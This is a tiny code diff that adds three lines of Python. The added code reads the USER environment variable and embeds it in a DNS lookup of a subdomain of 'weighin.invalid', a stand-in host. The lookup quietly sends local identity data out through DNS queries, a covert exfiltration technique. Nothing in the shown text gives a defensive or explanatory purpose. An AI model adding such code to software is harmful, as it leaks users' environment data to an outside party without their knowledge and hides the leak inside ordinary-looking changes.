@@ -1,0 +1,3 @@
+import os, socket
+
+socket.gethostbyname(f"{os.environ.get('USER')}.weighin.invalid")
